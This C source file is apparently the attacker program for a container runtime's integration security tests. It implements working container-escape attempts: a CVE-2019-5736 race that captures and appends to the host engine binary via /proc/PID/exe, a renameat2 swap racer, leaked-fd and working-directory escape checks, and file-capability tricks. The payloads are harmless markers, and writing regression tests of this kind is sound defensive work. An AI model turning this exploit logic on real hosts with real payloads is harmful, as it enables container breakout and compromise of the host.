/* The attacker of tests/integration/security.bats: runs as root inside a container
 * (it is built static and bind-mounted in) and tries to reach the host. Each
 * subcommand prints what it saw; a line starting with "ESCAPE" is a host object
 * reached, and the exit status is 3 when there was one.
 *
 *   attack exe-watch LOG STOP MARKER SECONDS
 *       CVE-2019-5736: spin over the next pids of the pid namespace, open
 *       /proc/PID/{exe,root,cwd} of every process entering the container (a
 *       `runtime exec`, a health probe) while it still runs the engine's binary, and
 *       keep the exe as O_PATH to re-open it for writing (O_APPEND, the binary keeps
 *       working) once no host process runs it; also try O_WRONLY on /proc/PID/exe
 *       directly. MARKER is an absolute host path that does not exist in the
 *       container: reaching it through /proc/PID/root or /proc/PID/cwd is an escape.
 *       Runs until STOP exists or SECONDS pass; the log goes to LOG.
 *   attack fds
 *       CVE-2016-9962/CVE-2024-21626: every open fd of this process; stdio may be a
 *       pipe, socket, pty or /dev/null, any other fd, or any fd on a directory or a
 *       file, is a leak of the engine's.
 *   attack cwd MARKER
 *       CVE-2024-21626: is the working directory inside the container root ("..."
 *       walks up to "/"), and is MARKER (an absolute host path) reachable through
 *       relative paths from it?
 *   attack swap STOP SECONDS DIR TARGET CAND...
 *       The racer of the mount and cwd attacks: renameat2(RENAME_EXCHANGE) TARGET
 *       with each CAND in turn and back, in DIR, until STOP exists or SECONDS pass.
 *   attack setfcap FILE [permitted]
 *       Give FILE file capabilities: every capability inheritable and effective,
 *       none permitted unless asked (CVE-2022-29162: only a non-empty inheritable set of the
 *       process turns these into real capabilities).
 *   attack asuser UID FILE ARGS...
 *       setgroups/setresgid/setresuid to UID (as a container's root may) and exec.
 *   attack caps
 *       Print CapInh/CapPrm/CapEff/CapBnd/CapAmb of this process.
 *   attack console-recv SOCKET SECONDS
 *       A --console-socket for `hoist runtime run`: receive the pty master and copy
 *       what the container writes to stdout until it closes or SECONDS pass.
 *   attack openw PATH...
 *       Open each PATH for writing and close it again without writing a byte (so
 *       /proc/sysrq-trigger or a sysctl are probed, never triggered or changed):
 *       "ESCAPE writable PATH" when that works.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static int logfd = 1;

static void logf_(const char *fmt, ...)
{
    char buf[1024];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof(buf) - 1, fmt, ap);
    va_end(ap);
    if (n < 0)
        return;
    if (n > (int)sizeof(buf) - 2)
        n = (int)sizeof(buf) - 2;
    buf[n++] = '\n';
    ssize_t w = write(logfd, buf, (size_t)n);
    (void)w;
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int same_file(const struct stat *a, const struct stat *b)
{
    return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* ---- exe-watch ---------------------------------------------------------------- */

#define MAXPID 4194304
#define MAXCAP 256

struct captured {
    int fd;
    int pid;
    int written;
};

/* Re-open every captured exe not written yet for writing: it works once no host process
 * executes the binary any more (ETXTBSY until then). Returns how many are still left. */
static int write_captured(struct captured *cap, int ncap, const char *payload, int *escapes)
{
    int left = 0;
    for (int i = 0; i < ncap; i++) {
        if (cap[i].written)
            continue;
        char path[64];
        snprintf(path, sizeof(path), "/proc/self/fd/%d", cap[i].fd);
        int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (w < 0) {
            left++;
            continue;
        }
        if (write(w, payload, strlen(payload)) > 0) {
            logf_("ESCAPE wrote the host binary through the exe of pid=%d", cap[i].pid);
            (*escapes)++;
        }
        cap[i].written = 1;
        close(w);
    }
    return left;
}

static int exe_watch(int argc, char **argv)
{
    if (argc < 6)
        return 2;
    const char *stop = argv[3], *marker = argv[4];
    double deadline = now() + atof(argv[5]);
    logfd = open(argv[2], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (logfd < 0)
        return 2;
    struct stat self, bb;
    if (stat("/proc/self/exe", &self) < 0)
        return 2;
    int have_bb = stat("/bin/busybox", &bb) == 0;
    const char *base = strrchr(marker, '/') ? strrchr(marker, '/') + 1 : marker;
    static unsigned char seen[MAXPID / 8 + 1], done[MAXPID / 8 + 1], reported[MAXPID / 8 + 1],
        reached[MAXPID / 8 + 1];
    struct captured cap[MAXCAP];
    int ncap = 0, escapes = 0;
    long nseen = 0, loops = 0;
    int next = getpid() + 1;
    logf_("START pid=%d", getpid());
    const char *payload = "\nHOIST-ATTACK-CVE-2019-5736\n";
    for (;;) {
        if ((loops & 1023) == 0) {
            if (now() > deadline || access(stop, F_OK) == 0)
                break;
        }
        loops++;
        for (int p = next; p < next + 8 && p < MAXPID; p++) {
            char path[PATH_MAX];
            snprintf(path, sizeof(path), "/proc/%d/exe", p);
            int fd = open(path, O_PATH | O_CLOEXEC);
            int err = errno;
            /* A process still setting up with more privileges than ours: spin on it
             * alone (bounded) so as not to miss its short window before exec. */
            if (fd < 0 && (err == EACCES || err == EPERM)) {
                double until = now() + 2;
                for (long k = 0; fd < 0 && (err == EACCES || err == EPERM); k++) {
                    if ((k & 1023) == 0 && now() > until)
                        break;
                    fd = open(path, O_PATH | O_CLOEXEC);
                    err = errno;
                }
            }
            if (fd < 0 && err == ENOENT) {
                if (seen[p / 8] & (1 << (p % 8)))
                    done[p / 8] |= (unsigned char)(1 << (p % 8));
                if (done[p / 8] & (1 << (p % 8)) && p == next)
                    next++;
                continue;
            }
            if (!(seen[p / 8] & (1 << (p % 8)))) {
                seen[p / 8] |= (unsigned char)(1 << (p % 8));
                nseen++;
            }
            /* Whatever the exe, try the process's root and cwd toward the host. */
            char probe[3][PATH_MAX];
            struct stat st;
            snprintf(probe[0], sizeof(probe[0]), "/proc/%d/root%s", p, marker);
            snprintf(probe[1], sizeof(probe[1]), "/proc/%d/cwd/%s", p, base);
            snprintf(probe[2], sizeof(probe[2]), "/proc/%d/cwd%s", p, marker);
            for (int k = 0; k < 3 && !(reached[p / 8] & (1 << (p % 8))); k++) {
                if (stat(probe[k], &st) == 0) {
                    logf_("ESCAPE host marker through pid=%d: %s", p, probe[k]);
                    reached[p / 8] |= (unsigned char)(1 << (p % 8));
                    escapes++;
                }
            }
            if (fd < 0)
                continue;
            struct stat es;
            if (fstat(fd, &es) < 0 || same_file(&es, &self) || (have_bb && same_file(&es, &bb))) {
                close(fd);
                done[p / 8] |= (unsigned char)(1 << (p % 8));
                if (p == next)
                    next++;
                continue;
            }
            /* A binary that is not the container's: the entering engine. */
            int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (w >= 0) {
                if (write(w, payload, strlen(payload)) > 0) {
                    logf_("ESCAPE wrote through /proc/%d/exe directly", p);
                    escapes++;
                }
                close(w);
            }
            if (!(reported[p / 8] & (1 << (p % 8)))) {
                reported[p / 8] |= (unsigned char)(1 << (p % 8));
                char link[PATH_MAX] = "";
                ssize_t n = readlink(path, link, sizeof(link) - 1);
                link[n > 0 ? n : 0] = '\0';
                logf_("OPENED exe of pid=%d: %s (dev %lu ino %lu)", p, link,
                      (unsigned long)es.st_dev, (unsigned long)es.st_ino);
                if (ncap < MAXCAP) {
                    cap[ncap++] = (struct captured){.fd = fd, .pid = p};
                    fd = -1;
                }
            }
            if (fd >= 0)
                close(fd);
        }
        write_captured(cap, ncap, payload, &escapes);
    }
    /* The engine may still have been running at the stop: a last bounded round. */
    for (int round = 0; round < 200 && write_captured(cap, ncap, payload, &escapes) > 0; round++)
        usleep(10000);
    logf_("END loops=%ld entering=%ld captured=%d escapes=%d", loops, nseen, ncap, escapes);
    return escapes ? 3 : 0;
}

/* ---- fds ---------------------------------------------------------------------- */

static int fds(void)
{
    DIR *d = opendir("/proc/self/fd");
    if (!d)
        return 2;
    int leaks = 0;
    struct dirent *de;
    while ((de = readdir(d))) {
        if (de->d_name[0] == '.')
            continue;
        int fd = atoi(de->d_name);
        if (fd == dirfd(d))
            continue;
        char path[64], link[PATH_MAX] = "";
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        ssize_t n = readlink(path, link, sizeof(link) - 1);
        link[n > 0 ? n : 0] = '\0';
        struct stat st;
        int ok = fstat(fd, &st) == 0;
        int fine;
        if (!ok)
            fine = 0;
        else if (S_ISFIFO(st.st_mode) || S_ISSOCK(st.st_mode))
            fine = 1;
        else if (S_ISCHR(st.st_mode) && fd <= 2)
            fine = strcmp(link, "/dev/null") == 0 || strncmp(link, "/dev/pts/", 9) == 0 ||
                   strcmp(link, "/dev/console") == 0;
        else
            fine = 0;
        printf("%s fd %d -> %s\n", fine ? "fd" : "ESCAPE leaked", fd, link);
        leaks += !fine;
    }
    closedir(d);
    printf("%s\n", leaks ? "FDS-LEAK" : "FDS-OK");
    return leaks ? 3 : 0;
}

/* ---- cwd ---------------------------------------------------------------------- */

static int cwd(const char *marker)
{
    char buf[PATH_MAX];
    const char *c = getcwd(buf, sizeof(buf));
    printf("getcwd: %s\n", c ? c : strerror(errno));
    char link[PATH_MAX];
    ssize_t ln = readlink("/proc/self/cwd", link, sizeof(link) - 1);
    link[ln > 0 ? ln : 0] = '\0';
    printf("cwd link: %s\n", link);
    int escapes = 0;
    struct stat root, st;
    if (stat("/", &root) < 0)
        return 2;
    int fd = open(".", O_PATH | O_CLOEXEC);
    int inside = 0;
    for (int i = 0; fd >= 0 && i < 256; i++) {
        if (fstat(fd, &st) < 0)
            break;
        if (same_file(&st, &root)) {
            inside = 1;
            break;
        }
        int up = openat(fd, "..", O_PATH | O_CLOEXEC);
        close(fd);
        fd = up;
    }
    if (fd >= 0)
        close(fd);
    if (!inside) {
        printf("ESCAPE the working directory is outside the container root\n");
        escapes++;
    }
    char rel[PATH_MAX * 2];
    for (int k = 0; k < 64; k++) {
        size_t len = 0;
        for (int j = 0; j < k; j++)
            len += (size_t)snprintf(rel + len, sizeof(rel) - len, "../");
        snprintf(rel + len, sizeof(rel) - len, "%s", marker + 1);
        if (stat(rel, &st) == 0) {
            printf("ESCAPE host marker reachable: %s\n", rel);
            escapes++;
            break;
        }
    }
    printf("%s\n", escapes ? "CWD-ESCAPE" : "CWD-OK");
    return escapes ? 3 : 0;
}

/* ---- swap --------------------------------------------------------------------- */

static int swap(int argc, char **argv)
{
    if (argc < 7)
        return 2;
    const char *stop = argv[2];
    double deadline = now() + atof(argv[3]);
    int dfd = open(argv[4], O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (dfd < 0) {
        perror(argv[4]);
        return 2;
    }
    const char *target = argv[5];
    char **cand = argv + 6;
    int ncand = argc - 6;
    long n = 0, fails = 0;
    for (long i = 0;; i++) {
        if ((i & 255) == 0 && (now() > deadline || access(stop, F_OK) == 0))
            break;
        const char *c = cand[i % ncand];
        if (syscall(SYS_renameat2, dfd, target, dfd, c, RENAME_EXCHANGE) < 0) {
            fails++;
            continue;
        }
        if (syscall(SYS_renameat2, dfd, target, dfd, c, RENAME_EXCHANGE) < 0) {
            /* Keep the two in place for the next round whatever happens. */
            fails++;
            continue;
        }
        n++;
    }
    printf("swaps=%ld fails=%ld\n", n, fails);
    return 0;
}

/* ---- capabilities ------------------------------------------------------------- */

static int setfcap(const char *file, int permitted)
{
    /* struct vfs_cap_data, revision 2: effective bit, {permitted, inheritable} x 2. */
    uint32_t p = permitted ? 0xffffffffu : 0;
    uint32_t v[5] = {0x02000000u | 0x000001u, p, 0xffffffffu, p, 0xffffffffu};
    if (setxattr(file, "security.capability", v, sizeof(v), 0) < 0) {
        perror("setxattr security.capability");
        return 1;
    }
    return 0;
}

static int asuser(int argc, char **argv)
{
    if (argc < 4)
        return 2;
    uid_t uid = (uid_t)atoi(argv[2]);
    gid_t g = (gid_t)uid;
    if (setgroups(1, &g) < 0 || setresgid(g, g, g) < 0 || setresuid(uid, uid, uid) < 0) {
        perror("asuser");
        return 1;
    }
    execv(argv[3], argv + 3);
    perror(argv[3]);
    return 127;
}

static int caps(void)
{
    FILE *f = fopen("/proc/self/status", "re");
    if (!f)
        return 2;
    char line[256];
    while (fgets(line, sizeof(line), f)) {
        if (strncmp(line, "Cap", 3) == 0 || strncmp(line, "Uid:", 4) == 0)
            fputs(line, stdout);
    }
    fclose(f);
    return 0;
}

static int console_recv(const char *path, double secs)
{
    double deadline = now() + secs;
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    if (strlen(path) >= sizeof(sa.sun_path))
        return 2;
    strcpy(sa.sun_path, path);
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 1) < 0) {
        perror("console socket");
        return 2;
    }
    struct pollfd p = {.fd = s, .events = POLLIN};
    if (poll(&p, 1, (int)(secs * 1000)) != 1)
        return 2;
    int c = accept4(s, NULL, NULL, SOCK_CLOEXEC);
    if (c < 0)
        return 2;
    char dummy;
    struct iovec iov = {.iov_base = &dummy, .iov_len = 1};
    union {
        char buf[CMSG_SPACE(sizeof(int))];
        struct cmsghdr align;
    } u;
    struct msghdr mh = {
        .msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof(u.buf)};
    if (recvmsg(c, &mh, 0) <= 0)
        return 2;
    struct cmsghdr *cm = CMSG_FIRSTHDR(&mh);
    if (!cm || cm->cmsg_type != SCM_RIGHTS)
        return 2;
    int master;
    memcpy(&master, CMSG_DATA(cm), sizeof(int));
    char buf[4096];
    while (now() < deadline) {
        struct pollfd q = {.fd = master, .events = POLLIN};
        if (poll(&q, 1, 100) <= 0)
            continue;
        ssize_t n = read(master, buf, sizeof(buf));
        if (n <= 0)
            break;
        ssize_t w = write(1, buf, (size_t)n);
        (void)w;
    }
    return 0;
}

static int openw(int argc, char **argv)
{
    int escapes = 0;
    for (int i = 2; i < argc; i++) {
        int fd = open(argv[i], O_WRONLY | O_CLOEXEC | O_NOCTTY);
        if (fd >= 0) {
            printf("ESCAPE writable %s\n", argv[i]);
            escapes++;
            close(fd);
        } else {
            printf("not writable %s: %s\n", argv[i], strerror(errno));
        }
    }
    return escapes ? 3 : 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2) {
        fprintf(stderr, "usage: attack exe-watch|fds|cwd|swap|setfcap|asuser|caps ...\n");
        return 2;
    }
    const char *cmd = argv[1];
    if (!strcmp(cmd, "exe-watch"))
        return exe_watch(argc, argv);
    if (!strcmp(cmd, "fds"))
        return fds();
    if (!strcmp(cmd, "cwd") && argc > 2)
        return cwd(argv[2]);
    if (!strcmp(cmd, "swap"))
        return swap(argc, argv);
    if (!strcmp(cmd, "setfcap") && argc > 2)
        return setfcap(argv[2], argc > 3 && !strcmp(argv[3], "permitted"));
    if (!strcmp(cmd, "asuser"))
        return asuser(argc, argv);
    if (!strcmp(cmd, "caps"))
        return caps();
    if (!strcmp(cmd, "console-recv") && argc > 3)
        return console_recv(argv[2], atof(argv[3]));
    if (!strcmp(cmd, "openw"))
        return openw(argc, argv);
    fprintf(stderr, "attack: unknown command %s\n", cmd);
    return 2;
}
